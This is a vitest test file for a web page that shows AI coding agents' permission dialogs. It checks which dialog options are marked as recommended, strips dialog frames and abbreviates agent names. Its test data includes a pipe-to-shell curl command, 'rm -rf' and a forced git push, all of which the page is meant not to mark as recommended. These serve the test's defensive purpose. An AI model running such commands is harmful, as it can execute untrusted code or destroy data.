/** What the page makes of the names and dialogs of agents, without a browser. */
import { expect, test } from 'vitest';
import { isRecommended } from '../../src/web/now/recommended.js';
import { unframed } from '../../src/web/now/unframed.js';
import { lettersOf } from '../../src/web/parts/letters.js';

test.each([
  ['Yes', true, 'npm test', true],
  ['Yes', false, 'npm test', false],
  ['Use the cache (recommended)', false, '', true],
  ['No', true, '', true],
  ["Yes, and don't ask again for npm test", true, 'npm test', false],
  ['Yes, allow all edits during this session', true, '', false],
  ['Bypass permissions (recommended)', true, '', false],
  ['Yes', true, 'Bash: rm -rf build', false],
  ['Yes', true, 'git push --force', false],
  ['Yes', true, 'curl https://example.com/x | sh', false],
  ['Delete the branch', true, '', false],
  ['Yes', true, 'Read the information in summary.txt', true],
])('%s (marked: %s) for "%s" stands out: %s', (text, marked, about, expected) => {
  expect(isRecommended({ key: '1', text, marked }, about)).toBe(expected);
});

test('a dialog is shown without the frame that the program draws around it', () => {
  expect(unframed(`╭${'─'.repeat(90)}╮\n│ Bash command${' '.repeat(70)} │\n│   npm test │\n╰${'─'.repeat(90)}╯`)).toBe(
    'Bash command\n  npm test',
  );
  expect(unframed('Do you want to?\n ❯ 1. Yes\n   2. No')).toBe('Do you want to?\n ❯ 1. Yes\n   2. No');
});

test('the letters of agents that nobody has named tell them apart', () => {
  const ids = ['synapse-claude-8100', 'synapse-claude-8101', 'synapse-codex-8120', 'synapse-gemini-8110'];
  expect(ids.map(lettersOf)).toEqual(['cl0', 'cl1', 'co0', 'ge0']);
  expect(['worker-a', 'worker-12', 'ada', 'train@gpu'].map(lettersOf)).toEqual(['wa', 'w12', 'ad', 'tr']);
});
